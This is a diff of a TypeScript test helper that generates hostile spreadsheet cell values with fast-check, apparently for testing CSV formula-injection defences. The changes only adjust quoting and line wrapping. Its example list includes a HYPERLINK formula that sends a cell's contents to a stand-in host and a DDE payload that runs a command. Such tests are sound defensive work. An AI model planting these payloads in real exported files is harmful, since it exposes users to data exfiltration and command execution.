@@ -97,7 +97,7 @@ export const HOSTILE_EXAMPLES = [
   '-2+3',
   '=HYPERLINK("http://evil.example/?x="&A1,"click")',
   '+1',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
   '\n=1+1',
@@ -119,7 +119,7 @@ export const HOSTILE_EXAMPLES = [
 
 const PREFIX = fc.constantFrom('', ' ', '  ', '\t', '\r', '\n', '\u00a0', '\u200b', '\u2028', '\u3000', '\ufeff', '"', "'");
 const TRIGGER = fc.constantFrom('=', '+', '-', '@', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20', '\t', '\r');
-const TAIL = fc.oneof(fc.constantFrom('cmd|\' /C calc\'!A0', '2+3', 'HYPERLINK("x")', '1', '12.50', ''), fc.string({ maxLength: 12 }));
+const TAIL = fc.oneof(fc.constantFrom("cmd|' /C calc'!A0", '2+3', 'HYPERLINK("x")', '1', '12.50', ''), fc.string({ maxLength: 12 }));
 
 /** A hostile cell: a formula trigger after optional blanks, a known example, or any text. */
 export const hostileText: fc.Arbitrary<string> = fc.oneof(
@@ -130,6 +130,11 @@ export const hostileText: fc.Arbitrary<string> = fc.oneof(
 
 /** An amount column's value: a canonical signed decimal most of the time, else hostile text. */
 export const hostileAmount: fc.Arbitrary<string> = fc.oneof(
-  { weight: 3, arbitrary: fc.tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 15n })).map(([negative, minor]) => `${negative && minor > 0n ? '-' : ''}${minor / 100n}.${String(minor % 100n).padStart(2, '0')}`) },
+  {
+    weight: 3,
+    arbitrary: fc
+      .tuple(fc.boolean(), fc.bigInt({ min: 0n, max: 10n ** 15n }))
+      .map(([negative, minor]) => `${negative && minor > 0n ? '-' : ''}${minor / 100n}.${String(minor % 100n).padStart(2, '0')}`),
+  },
   { weight: 1, arbitrary: hostileText },
 );
